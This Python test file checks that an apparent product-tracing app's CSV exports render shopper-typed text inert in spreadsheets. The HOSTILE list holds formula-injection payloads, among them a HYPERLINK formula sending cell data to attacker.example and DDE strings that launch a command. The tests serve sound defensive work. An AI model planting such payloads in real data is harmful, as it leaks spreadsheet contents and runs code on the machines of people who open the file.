"""CSV exports opened in a spreadsheet never run what anonymous shoppers typed: a cell
that would be read as a formula is written as text."""

from __future__ import annotations

import csv
import io

import pytest
from flask import Flask

from traceqr.domain.spreadsheet import spreadsheet_safe
from traceqr.web.authority.tables import Cell, DataTable, csv_download

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_written_as_text(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Cửa hàng Minh An", "Số 1 Giang Cao", "", 12, -3, 0.25, None])
def test_ordinary_values_are_left_alone(value: object) -> None:
    assert spreadsheet_safe(value) == value


def test_the_authority_exports_neutralise_shop_names_from_shoppers(app: Flask) -> None:
    table = DataTable("reports", "Reports", ["Shop", "Address", "Count"])
    for text in HOSTILE:
        table.rows.append([Cell(text, text), Cell("Hà Nội", "Hà Nội"), Cell(-1, "-1")])
    with app.test_request_context():
        response = csv_download(table, "evidence-reports")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0] == ["Shop", "Address", "Count"]
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert all(row[1] == "Hà Nội" and row[2] == "-1" for row in rows[1:])
